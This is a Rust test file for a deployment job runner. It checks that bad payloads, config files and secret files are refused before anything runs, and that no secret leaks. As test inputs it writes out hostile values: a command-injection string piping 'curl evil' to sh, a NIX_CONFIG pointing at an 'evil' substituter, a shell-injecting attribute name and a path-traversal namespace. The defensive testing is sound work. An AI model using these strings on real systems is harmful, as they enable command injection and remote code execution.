//! Bad input is refused before anything runs: exit 2, the program never starts, one line per
//! problem naming it, and never a secret value. Every test plants a secret in the node's
//! secrets directory and checks that no output holds it; `the_planted_secret_is_really_loaded`
//! is the positive control that this secret is read and would be seen if it leaked.

use std::path::PathBuf;

use fediversity_testkit::job_run::JobRun;
use fediversity_testkit::jobenv_bin;
use fediversity_testkit::nix_fixture::Fixture;
use serde_json::{Value, json};

const SECRET: &str = "planted-secret-Zq8w1x";

struct Case {
    f: Fixture,
    started: PathBuf,
}

impl Case {
    fn new() -> Self {
        let mut f = Fixture::new();
        let started = f.path().join("started");
        f.program("web", "apply", &format!("echo \"$API_TOKEN\" > {}", started.display()));
        f.declare("API_TOKEN", None)
            .declare("DOMAIN", None)
            .secret("API_TOKEN", SECRET);
        Case { f, started }
    }

    fn payload() -> Value {
        json!({"ATTRIBUTE": "web", "NAMESPACE": "ns"})
    }

    /// `run --verb apply` with `payload`, to be given more before [`Case::rejected`] runs it.
    fn run(&self, payload: &Value) -> JobRun {
        self.f.jobenv(jobenv_bin!()).verb("apply").payload(payload)
    }

    /// Runs `run` and asserts the rejection contract; returns stderr.
    fn rejected(&self, run: JobRun, expected: &str) -> String {
        let done = run
            .expect_code(2)
            .expect_stderr_contains(expected)
            .expect_nowhere("the planted secret", SECRET)
            .run();
        assert!(!self.started.exists(), "the program was started");
        assert!(
            done.stderr_lines().iter().all(|l| l.starts_with("jobenv: ")),
            "unprefixed line in:\n{}",
            done.stderr
        );
        done.stderr
    }
}

#[test]
fn the_planted_secret_is_really_loaded() {
    let case = Case::new();
    case.run(&Case::payload()).expect_success().run();
    assert_eq!(std::fs::read_to_string(&case.started).unwrap(), format!("{SECRET}\n"));
}

#[test]
fn deploy_env_missing() {
    let case = Case::new();
    let out = case
        .run(&Case::payload())
        .env("JOBENV_DEPLOY_ENV", "/nonexistent/deploy-env.json");
    case.rejected(out, "deploy-env file /nonexistent/deploy-env.json does not exist");
}

#[test]
fn deploy_env_unreadable() {
    let case = Case::new();
    // Tests run as root, which reads any mode: a directory is what cannot be read as a file.
    let dir = case.f.path().join("a-directory");
    std::fs::create_dir(&dir).unwrap();
    let out = case.run(&Case::payload()).env("JOBENV_DEPLOY_ENV", &dir);
    case.rejected(out, &format!("deploy-env file {} cannot be read", dir.display()));
}

fn with_deploy_env_text(text: &str) -> (Case, JobRun) {
    let case = Case::new();
    let path = case.f.path().join("other-deploy-env.json");
    std::fs::write(&path, text).unwrap();
    let out = case.run(&Case::payload()).env("JOBENV_DEPLOY_ENV", &path);
    (case, out)
}

#[test]
fn deploy_env_not_json() {
    let (case, out) = with_deploy_env_text("{\"DEPLOYMENT_ROOT\": ");
    case.rejected(out, "other-deploy-env.json is not valid JSON: EOF while parsing");
}

#[test]
fn deploy_env_not_an_object() {
    let (case, out) = with_deploy_env_text("[\"DEPLOYMENT_ROOT\"]");
    case.rejected(out, "other-deploy-env.json must be a JSON object");
}

#[test]
fn deploy_env_with_an_undeclared_key() {
    let mut case = Case::new();
    case.f
        .node("SURPRISE", "value")
        .node("TF_VAR_region", "eu")
        .node("NIX_CONFIG", "x");
    let out = case.run(&Case::payload());
    let stderr = case.rejected(
        out,
        "sets SURPRISE, which is neither declared in the keys file nor a Nix/OpenTofu variable a node may set",
    );
    assert_eq!(
        stderr.lines().count(),
        1,
        "TF_VAR_* and NIX_CONFIG are allowed: {stderr}"
    );
}

#[test]
fn keys_file_missing() {
    let case = Case::new();
    case.rejected(
        case.run(&Case::payload()).env("JOBENV_KEYS", "/nonexistent/keys.json"),
        "keys file /nonexistent/keys.json does not exist",
    );
}

#[test]
fn attributes_file_missing() {
    let case = Case::new();
    case.rejected(
        case.run(&Case::payload())
            .env("JOBENV_ATTRIBUTES", "/nonexistent/attributes.json"),
        "attributes file /nonexistent/attributes.json does not exist",
    );
}

#[test]
fn missing_secrets_directory() {
    let case = Case::new();
    case.rejected(
        case.run(&Case::payload()).env(
            "JOBENV_SECRETS_DIRS",
            format!("{}:/nonexistent/secrets", case.f.secrets_dir().display()),
        ),
        "secrets directory /nonexistent/secrets does not exist",
    );
}

#[test]
fn payload_not_json() {
    let case = Case::new();
    let out = case.run(&Case::payload()).stdin(&b"ATTRIBUTE=web"[..]);
    case.rejected(
        out,
        "payload on stdin is not valid JSON: expected value at line 1 column 1",
    );
}

#[test]
fn payload_not_an_object() {
    let case = Case::new();
    case.rejected(
        case.run(&json!(["ATTRIBUTE", "web"])),
        "payload on stdin must be a JSON object",
    );
}

#[test]
fn payload_larger_than_one_mebibyte() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN": "x".repeat(1 << 20)});
    case.rejected(case.run(&payload), "payload is larger than 1048576 bytes");
}

#[test]
fn payload_with_undeclared_and_reserved_keys_lists_them_all() {
    let case = Case::new();
    let payload = json!({
        "ATTRIBUTE": "web", "NAMESPACE": "ns",
        "NOPE_ONE": "1", "NOPE_TWO": "2",
        "PATH": "/tmp", "HOME": "/tmp", "NIX_CONFIG": "x", "LD_PRELOAD": "x", "DYLD_LIBRARY_PATH": "x", "TF_HTTP_RETRY_MAX": "x",
    });
    let stderr = case.rejected(
        case.run(&payload),
        "payload rejected: undeclared keys: NOPE_ONE, NOPE_TWO",
    );
    assert!(
        stderr.contains(
            "payload rejected: reserved keys: DYLD_LIBRARY_PATH, HOME, LD_PRELOAD, NIX_CONFIG, PATH, TF_HTTP_RETRY_MAX"
        ),
        "{stderr}"
    );
}

#[test]
fn a_reserved_key_is_refused_even_when_declared() {
    let mut case = Case::new();
    case.f.declare("NIX_CONFIG", None);
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "NIX_CONFIG": "substituters = http://evil"});
    case.rejected(case.run(&payload), "payload rejected: reserved keys: NIX_CONFIG");
}

#[test]
fn a_key_with_an_equals_sign() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN=x": "y"});
    case.rejected(case.run(&payload), "invalid variable name \"DOMAIN=x\" in payload");
}

#[test]
fn a_key_with_a_nul_byte() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOM\u{0}AIN": "y"});
    case.rejected(case.run(&payload), "invalid variable name \"DOM\\0AIN\" in payload");
}

#[test]
fn a_payload_value_with_a_nul_byte() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN": "a\u{0}b"});
    case.rejected(case.run(&payload), "the value of DOMAIN in payload contains a NUL byte");
}

#[test]
fn a_secret_value_with_a_nul_byte_is_named_but_not_shown() {
    let case = Case::new();
    let path = case.f.secrets_dir().join("DOMAIN");
    std::fs::write(&path, format!("{SECRET}\0tail")).unwrap();
    case.rejected(
        case.run(&Case::payload()),
        &format!("the value of DOMAIN in {} contains a NUL byte", path.display()),
    );
}

#[test]
fn an_unknown_attribute() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "db", "NAMESPACE": "ns"});
    case.rejected(
        case.run(&payload),
        "unknown ATTRIBUTE \"db\": it is not in the published attribute list",
    );
}

#[test]
fn an_executable_that_is_not_attribute_dash_verb() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "EXECUTABLE": "web-apply; curl evil | sh"});
    case.rejected(
        case.run(&payload),
        "EXECUTABLE \"web-apply; curl evil | sh\" is not allowed: it must be \"web-apply\"",
    );
}

#[test]
fn a_malformed_system() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "SYSTEM": "x86_64-linux.evil"});
    case.rejected(
        case.run(&payload),
        "SYSTEM \"x86_64-linux.evil\" is invalid: must match ^[a-z0-9_]+-[a-z0-9_]+$",
    );
}

#[test]
fn a_malformed_namespace() {
    let case = Case::new();
    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "../other"});
    case.rejected(
        case.run(&payload),
        "NAMESPACE \"../other\" is invalid: must match ^[a-z0-9][a-z0-9-]{0,62}$",
    );
}

#[test]
fn a_key_defined_by_two_node_sources_names_both_but_not_the_value() {
    let mut case = Case::new();
    case.f.node("API_TOKEN", SECRET);
    let out = case.run(&Case::payload());
    case.rejected(
        out,
        &format!(
            "API_TOKEN is set by two node sources: {} and {}",
            case.f.deploy_env_path().display(),
            case.f.secrets_dir().join("API_TOKEN").display()
        ),
    );
}

#[test]
fn an_unknown_verb() {
    let case = Case::new();
    let out = case.f.jobenv(jobenv_bin!()).verb("deploy").payload(&Case::payload());
    case.rejected(out, "unknown verb \"deploy\": expected one of apply, destroy");
}

#[test]
fn a_missing_attribute_and_namespace() {
    let case = Case::new();
    let stderr = case.rejected(case.run(&json!({})), "ATTRIBUTE is required but not set");
    assert!(stderr.contains("NAMESPACE is required but not set"), "{stderr}");
}

#[test]
fn a_rejected_windmill_job_writes_its_result() {
    let case = Case::new();
    let out = case
        .run(&json!({"ATTRIBUTE": "db", "NAMESPACE": "ns"}))
        .env("WM_JOB_ID", "0192-rejected");
    case.rejected(out, "unknown ATTRIBUTE");
    let result = case.f.result_json();
    assert_eq!(result["status"], "rejected");
    assert_eq!(result["exit_code"], 2);
    assert_eq!(result["attribute"], "db");
    assert_eq!(result["namespace"], "ns");
    assert_eq!(result["job_id"], "0192-rejected");
    assert_eq!(
        result["errors"][0],
        "unknown ATTRIBUTE \"db\": it is not in the published attribute list"
    );
}

#[test]
fn a_payload_with_a_repeated_key() {
    let case = Case::new();
    let out = case
        .run(&Case::payload())
        .stdin(&br#"{"ATTRIBUTE": "nope", "ATTRIBUTE": "web", "NAMESPACE": "ns"}"#[..]);
    case.rejected(
        out,
        "payload on stdin is not valid JSON: the key \"ATTRIBUTE\" appears twice",
    );
}

#[test]
fn a_deploy_env_with_a_repeated_key() {
    let (case, out) =
        with_deploy_env_text(r#"{"DEPLOYMENT_ROOT": "relative", "NIXPKGS": "/", "DEPLOYMENT_ROOT": "/"}"#);
    case.rejected(out, "is not valid JSON: the key \"DEPLOYMENT_ROOT\" appears twice");
}

#[test]
fn a_missing_relative_or_absent_deployment_root() {
    let mut case = Case::new();
    case.f.unset_node("DEPLOYMENT_ROOT");
    case.rejected(
        case.run(&Case::payload()),
        "DEPLOYMENT_ROOT is required but not set (the node's deploy-env.json must set it)",
    );
    case.f.node("DEPLOYMENT_ROOT", "relative/root");
    case.rejected(
        case.run(&Case::payload()),
        "DEPLOYMENT_ROOT \"relative/root\" is invalid: must be an absolute path",
    );
    case.f.node("DEPLOYMENT_ROOT", "/nonexistent/root");
    case.rejected(
        case.run(&Case::payload()),
        "DEPLOYMENT_ROOT \"/nonexistent/root\" is invalid: does not exist",
    );
}

#[test]
fn a_missing_or_conflicting_nixpkgs() {
    let mut case = Case::new();
    case.f.unset_node("NIXPKGS");
    case.rejected(case.run(&Case::payload()), "NIXPKGS is required but not set");
    case.f.node("NIXPKGS", "/nix/a").node("DEPLOYMENT_NIXPKGS", "/nix/b");
    case.rejected(
        case.run(&Case::payload()),
        "NIXPKGS and DEPLOYMENT_NIXPKGS are both set and differ",
    );
}

#[test]
fn a_secret_file_that_links_outside_its_directory() {
    let case = Case::new();
    let outside = case.f.path().join("outside-secret");
    std::fs::write(&outside, SECRET).unwrap();
    let link = case.f.secrets_dir().join("DOMAIN");
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    case.rejected(
        case.run(&Case::payload()),
        &format!(
            "secret file {} is a link that points outside its directory",
            link.display()
        ),
    );
}

#[test]
fn a_fifo_or_an_oversized_file_in_the_secrets_directory_is_refused_by_name_and_size_only() {
    let mut case = Case::new();
    case.f.declare("LARGE", None);
    let largest = case.f.secrets_dir().join("LARGE");
    // Positive control: the largest value exec passes (`LARGE=<value>` and its NUL in 128 KiB),
    // read from its file with a newline, runs.
    std::fs::write(&largest, format!("{}\n", "x".repeat(128 * 1024 - "LARGE=".len() - 1))).unwrap();
    case.run(&Case::payload()).expect_success().run();
    std::fs::remove_file(&case.started).unwrap();
    // One byte under the file limit: read, then refused as a value exec cannot pass.
    std::fs::write(&largest, "x".repeat(128 * 1024 - 1)).unwrap();
    let stderr = case.rejected(
        case.run(&Case::payload()),
        "LARGE (secret) cannot be passed to a program",
    );
    assert!(!stderr.contains("128 KiB or larger"), "{stderr}");
    // At the limit, the file is not read: refused by its size, its content never shown. A FIFO
    // is refused rather than waited on.
    std::fs::write(&largest, format!("{SECRET}{}", "x".repeat(128 * 1024))).unwrap();
    let fifo = case.f.secrets_dir().join("PIPE");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR).unwrap();
    let stderr = case.rejected(
        case.run(&Case::payload()),
        &format!("secret file {} is 128 KiB or larger", largest.display()),
    );
    assert!(
        stderr.contains(&format!("secret file {} is not a regular file", fifo.display())),
        "{stderr}"
    );
}

#[test]
fn a_keys_file_that_declares_a_control_key() {
    let mut case = Case::new();
    case.f.declare("NAMESPACE", Some("default-ns"));
    case.rejected(
        case.run(&Case::payload()),
        "the keys file declares NAMESPACE, a control key jobenv consumes and never passes to the program",
    );
}

#[test]
fn a_secrets_env_file_line_that_is_not_key_value_is_named_by_line_not_content() {
    let case = Case::new();
    let env_file = case.f.path().join("secrets.env");
    std::fs::write(&env_file, format!("# comment\nTF_VAR_ok=fine-value\n{SECRET}\n")).unwrap();
    case.rejected(
        case.run(&Case::payload()).env("JOBENV_SECRETS_ENV_FILES", &env_file),
        &format!("{}:3: is not KEY=VALUE", env_file.display()),
    );
}

#[test]
fn a_secrets_env_file_with_an_oversized_value_or_size_is_refused_without_its_text() {
    let mut case = Case::new();
    case.f.declare("TF_VAR_ok", None);
    let env_file = case.f.path().join("secrets.env");
    // Positive control: the file is read and the job runs.
    std::fs::write(&env_file, "TF_VAR_ok=fine-value\n").unwrap();
    case.run(&Case::payload())
        .env("JOBENV_SECRETS_ENV_FILES", &env_file)
        .expect_success()
        .run();
    std::fs::remove_file(&case.started).unwrap();
    // A value no program could be given is refused by its line, before it becomes a needle.
    std::fs::write(
        &env_file,
        format!("TF_VAR_ok=fine-value\nTF_VAR_big={SECRET}{}\n", "x".repeat(128 * 1024)),
    )
    .unwrap();
    let run = case.run(&Case::payload()).env("JOBENV_SECRETS_ENV_FILES", &env_file);
    case.rejected(
        run,
        &format!("{}:2: has a value of 128 KiB or more", env_file.display()),
    );
    // A file of 1 MiB or more is not read at all.
    std::fs::write(
        &env_file,
        format!("TF_VAR_ok={SECRET}\n{}", "# padding\n".repeat(110_000)),
    )
    .unwrap();
    let run = case.run(&Case::payload()).env("JOBENV_SECRETS_ENV_FILES", &env_file);
    case.rejected(
        run,
        &format!("secrets env file {} is 1 MiB or larger", env_file.display()),
    );
}

#[test]
fn a_secrets_env_file_that_is_a_fifo_is_refused_without_waiting() {
    let case = Case::new();
    let fifo = case.f.path().join("secrets.env");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR).unwrap();
    let run = case.run(&Case::payload()).env("JOBENV_SECRETS_ENV_FILES", &fifo);
    case.rejected(
        run,
        &format!("secrets env file {} is not a regular file", fifo.display()),
    );
}

#[test]
fn secrets_of_more_than_one_mebibyte_together_are_refused_by_their_size() {
    let mut case = Case::new();
    // Positive control: seven values of 120 KiB (840 KiB in all, each one within the kernel's
    // limit) are read and the job runs.
    for i in 0..7 {
        case.f.declare(&format!("TF_VAR_part{i}"), None);
        std::fs::write(
            case.f.secrets_dir().join(format!("TF_VAR_part{i}")),
            format!("{SECRET}{}", "x".repeat(120 * 1024)),
        )
        .unwrap();
    }
    case.run(&Case::payload()).expect_success().run();
    std::fs::remove_file(&case.started).unwrap();
    // Two more make 1.05 MiB: refused, naming only the sizes.
    for i in 7..9 {
        std::fs::write(
            case.f.secrets_dir().join(format!("TF_VAR_part{i}")),
            format!("{SECRET}{}", "x".repeat(120 * 1024)),
        )
        .unwrap();
    }
    case.rejected(case.run(&Case::payload()), "the node's secrets hold 1106");
}

#[test]
fn a_link_to_a_fifo_inside_the_secrets_directory_is_refused_without_waiting() {
    let case = Case::new();
    let fifo = case.f.secrets_dir().join("pipe-target");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR).unwrap();
    let link = case.f.secrets_dir().join("DOMAIN");
    std::os::unix::fs::symlink(&fifo, &link).unwrap();
    case.rejected(
        case.run(&Case::payload()),
        &format!("secret file {} is not a regular file", link.display()),
    );
    // Positive control: a link to a regular file inside the directory is read.
    std::fs::remove_file(&link).unwrap();
    std::fs::write(case.f.secrets_dir().join("domain-target"), "example.org").unwrap();
    std::os::unix::fs::symlink(case.f.secrets_dir().join("domain-target"), &link).unwrap();
    case.run(&Case::payload()).expect_success().run();
}

#[test]
fn status_refuses_a_job_id_that_is_a_path() {
    let case = Case::new();
    std::fs::write(case.f.path().join("outside.json"), "{}").unwrap();
    case.f
        .jobenv(jobenv_bin!())
        .args(["status", "../../outside"])
        .expect_code(2)
        .expect_stderr_contains("invalid job id \"../../outside\"")
        .expect_stdout("")
        .run();
}

#[test]
fn a_long_value_is_cut_in_every_error_and_in_the_job_result() {
    let case = Case::new();
    let long = "a".repeat(100_000);
    let payload = json!({"ATTRIBUTE": long, "NAMESPACE": "ns", "EXECUTABLE": format!("x{long}")});
    let stderr = case.rejected(
        case.run(&payload).env("WM_JOB_ID", "0192-long"),
        &format!("unknown ATTRIBUTE \"{}...\"", "a".repeat(64)),
    );
    assert!(
        stderr.contains(&format!("EXECUTABLE \"x{}...\" is not allowed", "a".repeat(63))),
        "{stderr}"
    );
    assert!(stderr.len() < 1000, "{} bytes of errors", stderr.len());
    let result = case.f.result_json().to_string();
    assert!(result.len() < 1000, "{} bytes of result.json", result.len());
    // A value that is not cut has no marker: the positive control of the "...".
    let stderr = case.rejected(
        case.run(&json!({"ATTRIBUTE": "db", "NAMESPACE": "ns"})),
        "unknown ATTRIBUTE \"db\": it is",
    );
    assert!(!stderr.contains("..."), "{stderr}");
}

#[test]
fn a_cut_control_value_ends_in_a_marker_after_its_quote() {
    let case = Case::new();
    let system = format!("x86_64-{}", "l".repeat(100));
    let stderr = case.rejected(
        case.run(&json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "SYSTEM": system.clone() + "!"})),
        "SYSTEM \"",
    );
    assert!(
        stderr.contains(&format!("SYSTEM \"{}\"... is invalid", &system[..64])),
        "{stderr}"
    );
}

#[test]
fn a_keys_file_entry_with_an_unknown_field_is_refused_naming_it() {
    let case = Case::new();
    let keys = case.f.path().join("typo-keys.json");
    std::fs::write(
        &keys,
        r#"{"API_TOKEN": {"description": "d"}, "DOMAIN": {"description": "the domain", "defualt": "example.org"}}"#,
    )
    .unwrap();
    let stderr = case.rejected(
        case.run(&Case::payload()).env("JOBENV_KEYS", &keys),
        &format!("keys file {} entry DOMAIN has an unknown field \"defualt\" (an entry has \"description\", \"default\" and \"node_only\")", keys.display()),
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    // `keys` refuses it too.
    case.f
        .jobenv(jobenv_bin!())
        .args(["keys".as_ref(), "--keys".as_ref(), keys.as_os_str()])
        .expect_code(2)
        .expect_stderr_contains("unknown field \"defualt\"")
        .run();
}

#[test]
fn a_keys_file_node_only_that_is_not_a_boolean_is_refused() {
    let case = Case::new();
    let keys = case.f.path().join("node-only-keys.json");
    std::fs::write(
        &keys,
        r#"{"API_TOKEN": {"description": "d"}, "HOSTING_CONFIG": {"description": "pin", "node_only": "yes"}}"#,
    )
    .unwrap();
    let stderr = case.rejected(
        case.run(&Case::payload()).env("JOBENV_KEYS", &keys),
        &format!("keys file {} entry HOSTING_CONFIG", keys.display()),
    );
    assert!(stderr.contains("a boolean \"node_only\""), "{stderr}");
    // The positive control: `true` is accepted.
    std::fs::write(
        &keys,
        r#"{"API_TOKEN": {"description": "d"}, "HOSTING_CONFIG": {"description": "pin", "node_only": true}}"#,
    )
    .unwrap();
    case.f
        .jobenv(jobenv_bin!())
        .args(["keys".as_ref(), "--keys".as_ref(), keys.as_os_str()])
        .expect_success()
        .run();
}

#[test]
fn a_published_attribute_outside_the_safe_alphabet_is_refused() {
    // The attribute list is the deployment repository's; the alphabet is what keeps the text
    // given to the shell (`exec <ATTRIBUTE>-<VERB>`) a plain name even if that list is wrong.
    let mut case = Case::new();
    let marker = case.f.path().join("injected");
    let attribute = format!("web;touch${{IFS}}{}", marker.display());
    case.f.attribute(&attribute);
    let stderr = case.rejected(
        case.run(&json!({"ATTRIBUTE": attribute, "NAMESPACE": "ns"})),
        "ATTRIBUTE \"web;touch${IFS}",
    );
    assert!(
        stderr.contains("is invalid: must match ^[A-Za-z0-9][A-Za-z0-9_-]*$"),
        "{stderr}"
    );
    assert!(!marker.exists());
}

#[test]
fn a_relative_nixpkgs_is_refused_under_either_name() {
    let mut case = Case::new();
    case.f.node("NIXPKGS", "nixpkgs/relative");
    case.rejected(
        case.run(&Case::payload()),
        "NIXPKGS \"nixpkgs/relative\" is invalid: must be an absolute path",
    );
    case.f
        .unset_node("NIXPKGS")
        .node("DEPLOYMENT_NIXPKGS", "nixpkgs/relative");
    case.rejected(
        case.run(&Case::payload()),
        "NIXPKGS \"nixpkgs/relative\" is invalid: must be an absolute path",
    );
}

#[test]
fn nixpkgs_under_both_names_with_the_same_path_is_one_pin() {
    let mut case = Case::new();
    let root = case.f.root().display().to_string();
    case.f.node("DEPLOYMENT_NIXPKGS", root.as_str());
    let done = case.run(&Case::payload()).expect_success().run();
    assert!(!done.stderr.contains("NIXPKGS"), "{done:?}");
    let argv = case
        .f
        .jobenv(jobenv_bin!())
        .args(["env", "--verb", "apply", "--format", "json"])
        .payload(&Case::payload())
        .expect_success()
        .run();
    let shown: Value = serde_json::from_str(&argv.stdout).unwrap();
    assert_eq!(shown["argv"][3], format!("nixpkgs={root}"));
}

#[test]
fn a_derived_key_from_a_node_file_is_refused() {
    for key in ["DEPLOYMENT_NAMESPACE", "TF_HTTP_ADDRESS", "TF_HTTP_LOCK_ADDRESS"] {
        let mut case = Case::new();
        case.f.node(key, "from-the-node");
        case.rejected(
            case.run(&Case::payload()),
            &format!(
                "{} sets {key}, which jobenv derives itself",
                case.f.deploy_env_path().display()
            ),
        );
    }
}

#[test]
fn a_declared_deployment_namespace_sent_in_a_payload_is_refused() {
    let mut case = Case::new();
    case.f.declare("DEPLOYMENT_NAMESPACE", None);
    case.rejected(
        case.run(&json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DEPLOYMENT_NAMESPACE": "other"})),
        "payload rejected: reserved keys: DEPLOYMENT_NAMESPACE",
    );
}
